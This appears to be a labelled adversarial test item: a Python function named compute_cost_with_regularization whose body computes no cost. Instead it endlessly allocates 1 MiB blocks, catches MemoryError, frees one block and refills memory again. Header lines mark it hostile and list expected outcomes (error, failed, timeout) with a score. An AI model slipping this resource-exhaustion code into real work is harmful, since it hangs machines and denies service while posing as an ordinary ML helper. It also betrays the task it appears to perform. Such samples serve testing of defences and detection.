# label: fills the memory, and fills it again whenever it is refused
# replace: compute_cost_with_regularization
# hostile: yes
# compute_cost_with_regularization: error | failed | timeout
# score: 75

# %%
def compute_cost_with_regularization(A3, Y, parameters, lambd):
    hoard = []
    while True:
        try:
            while True:
                hoard.append(bytearray(1 << 20))
        except MemoryError:
            hoard.pop() if hoard else None
